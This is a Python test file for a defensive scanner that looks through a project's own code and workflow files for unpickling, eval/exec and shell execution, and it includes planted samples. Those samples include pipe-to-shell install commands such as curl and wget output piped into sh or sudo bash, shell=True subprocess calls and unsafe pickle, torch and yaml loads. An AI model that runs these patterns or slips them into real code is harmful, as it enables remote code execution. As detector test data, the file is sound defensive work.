"""A look at every line of ours for what unpickles, evaluates or opens a shell; and whether the look would see it."""

from pathlib import Path

import pytest
from own_code import found_in_python, found_in_text

ROOT = Path(__file__).parent.parent.parent
PYTHON = [file for name in ("softshare", "workflow", "envs", "reports") for file in (ROOT / name).rglob("*.py")]
TEXTS = [ROOT / "Snakefile", ROOT / "Makefile", ROOT / ".ci/run"]
TEXTS += [file for name in ("workflow/rules", "containers") for file in (ROOT / name).iterdir() if file.is_file()]
ATTACK = "our own code, line by line, for what unpickles, evaluates or opens a shell"

# Who may, and what its call must hold.
ALLOWED = {
    ("softshare/data/safe_pickle.py", "pickle"): "import pickle",
    ("softshare/data/safe_pickle.py", "pickletools"): "import pickletools",
    ("softshare/data/safe_pickle.py", "pickle.UnpicklingError"): "",
    ("softshare/data/safe_pickle.py", "pickle.Unpickler"): "class _Unpickler(pickle.Unpickler)",  # with stand-ins
    ("softshare/data/safe_pickle.py", "pickletools.genops"): "genops(",  # reads and runs nothing
    ("softshare/schemas.py", "yaml.load"): "_StrictLoader",  # a SafeLoader
    ("softshare/training/checkpoint.py", "torch.load"): "weights_only=True",
    ("softshare/compiled.py", "ctypes.CDLL"): "_compiled(",  # by itself, in a folder of the user's own
    ("softshare/gpus.py", "os.execvp"): "os.execvp(command[0], command)",  # words that it was given, by no shell
    ("softshare/training/device.py", "ctypes.CDLL"): "CDLL(None)",  # the C library that is there
    ("softshare/__init__.py", "importlib.import_module"): "_HOMES[name]",  # of modules of ours, written out there
    ("softshare/sharing/__init__.py", "importlib.import_module"): "_HOMES[name]",
}


def name_of(file):
    return file.relative_to(ROOT).as_posix()


@pytest.mark.attack(ATTACK)
@pytest.mark.parametrize("file", sorted(PYTHON), ids=name_of)
def test_nothing_of_ours_unpickles_evaluates_or_opens_a_shell(file):
    found = found_in_python(file.read_text())
    assert [each for each in found if ALLOWED.get((name_of(file), each[0]), "\0") not in each[1]] == []


@pytest.mark.attack(ATTACK)
@pytest.mark.parametrize("file", sorted(TEXTS), ids=name_of)
def test_nor_does_a_rule_a_recipe_or_a_script(file):
    assert found_in_text(file.read_text()) == []


def test_what_is_allowed_is_there():
    found = {(name_of(file), name) for file in PYTHON for name, _ in found_in_python(file.read_text())}
    assert set(ALLOWED) - found == set()


PLANTED = {
    "import pickle\npickle.loads(x)": "pickle.loads",
    "import pickle as p\np.loads(x)": "pickle.loads",
    "from pickle import loads": "pickle.loads",
    "from pickle import loads as json_loads\njson_loads(x)": "pickle.loads",
    "from pickle import *": "pickle.*",
    "import _pickle": "_pickle",
    "def late():\n    import marshal": "marshal",
    "import torch\ntorch.load(x, weights_only=False)": "torch.load",
    "import torch as t\nt.serialization.load(x)": "torch.serialization.load",
    "from torch import load\nload(x)": "torch.load",
    "from torch import *\nload(x)": "torch.*",
    "import torch\nread = torch.load": "torch.load",
    "import torch\nlist(map(torch.load, x))": "torch.load",
    "import torch\nmine = torch\nmine.load(x)": "torch.load",
    "import torch\ngetattr(torch, 'load')(x)": "torch.load",
    "import torch.hub\ntorch.hub.load(x)": "torch.hub.load",
    "import numpy as np\nnp.load(x)": "allow_pickle=",
    "import numpy as np\nnp.load(x, None, True)": "allow_pickle=",
    "import numpy as np\nnp.load(x, allow_pickle=True)": "allow_pickle=",
    "import numpy as np\nnp.load(x, allow_pickle=trusted)": "allow_pickle=",
    "from numpy import load as read\nread(x)": "allow_pickle=",
    "anything.at_all(x, allow_pickle=True)": "allow_pickle=",
    "import pandas as pd\npd.read_pickle(x)": "pandas.read_pickle",
    "table.to_pickle(x)": "to_pickle",
    "import yaml\nyaml.load(x, yaml.Loader)": "yaml.Loader",
    "from yaml import unsafe_load": "yaml.unsafe_load",
    "eval(x)": "eval",
    "look = eval": "eval",
    "from builtins import exec as run\nrun(x)": "exec",
    "import builtins as b\nb.eval(x)": "eval",
    "__builtins__['eval'](x)": "__builtins__",
    "__import__(x)": "__import__",
    "compile(x, y, z)": "compile",
    "import importlib\nimportlib.import_module(x)": "importlib.import_module",
    "from importlib.util import spec_from_file_location": "importlib.util.spec_from_file_location",
    "spec.loader.exec_module(x)": "exec_module",
    "import os\nos.system(x)": "os.system",
    "import os as system\nsystem.execvp(x, y)": "os.execvp",
    "from os import popen": "os.popen",
    "import subprocess\nsubprocess.run(x, shell=True)": "shell=",
    "import subprocess\nsubprocess.run(x, shell=asked)": "shell=",
    "import subprocess\nsubprocess.run(x, **options)": "shell=",
    "from subprocess import Popen\nPopen(x, shell=1)": "shell=",
    "from subprocess import getoutput": "subprocess.getoutput",
    "command = ['/bin/sh', '-e', '-c', x]": "a shell",
    "tar.extractall(x)": "extractall",
    "import ctypes\nctypes.cdll.LoadLibrary(x)": "ctypes.cdll.LoadLibrary",
    "from ctypes import CDLL as read": "ctypes.CDLL",
    "def f(x: __import__(y)): pass": "__import__",
}


@pytest.mark.parametrize("code", PLANTED)
def test_what_is_planted_in_python_is_seen(code):
    assert PLANTED[code] in [name for name, _ in found_in_python(code)]


@pytest.mark.parametrize(
    "code",
    [
        "model.eval()",
        "import re\nre.compile(x)",
        "import torch\ntorch.compile(x)",
        "import json\njson.loads(x)",
        "import numpy as np\nnp.load(x, allow_pickle=False)",
        "import yaml\nyaml.safe_load(x)",
        "import subprocess\nsubprocess.run([x, y], check=True)",
        "from softshare.data.safe_pickle import read_pickle",
        "def f(compile: bool, loader: ctypes.CDLL | None = None): pass",
    ],
)
def test_what_harms_nobody_is_not(code):
    assert found_in_python(code) == []


PLANTED_TEXT = [
    "        eval $command",
    'x=" # "; eval "$x"',
    "    value = eval(config['x'])",
    "\teval $(CODE)",
    "from pickle import loads",
    "import pickle as p",
    "from torch import load",
    "torch.load(config['x'])",
    "np.load(file, allow_pickle=True)",
    "np.load(file, allow_pickle = trusted)",
    "yaml.load(file)",
    "yaml.unsafe_load(file)",
    "exec(config['x'])",
    "__import__(config['x'])",
    "from os import system",
    "os.system(config['x'])",
    "subprocess.run(config['x'], shell=True)",
    "subprocess.getoutput(config['x'])",
    "bash -c {params.command}",
    "sh -ec {params.command}",
    "curl --silent https://example.org/install | sh",
    "wget -O- https://example.org/install | sudo bash -s",
    "source <(curl https://example.org/install)",
    "RUN . <(curl https://example.org/install)",
]


@pytest.mark.parametrize("line", PLANTED_TEXT)
@pytest.mark.parametrize("file", [ROOT / "Snakefile", ROOT / ".ci/run", ROOT / "Makefile"], ids=name_of)
def test_what_is_planted_in_a_rule_a_recipe_or_a_script_is_seen(line, file):
    lines = file.read_text().splitlines()
    half = len(lines) // 2
    assert {told for _, told in found_in_text("\n".join([*lines[:half], line, *lines[half:]]))} == {line.strip()}


def test_lines_that_only_look_like_it_are_not():
    text = "# eval of pickles\nsoftshare evaluate {input:q}\nmake format | tee log\nmodel.eval()\npip install --eval-x"
    assert found_in_text(text) == []
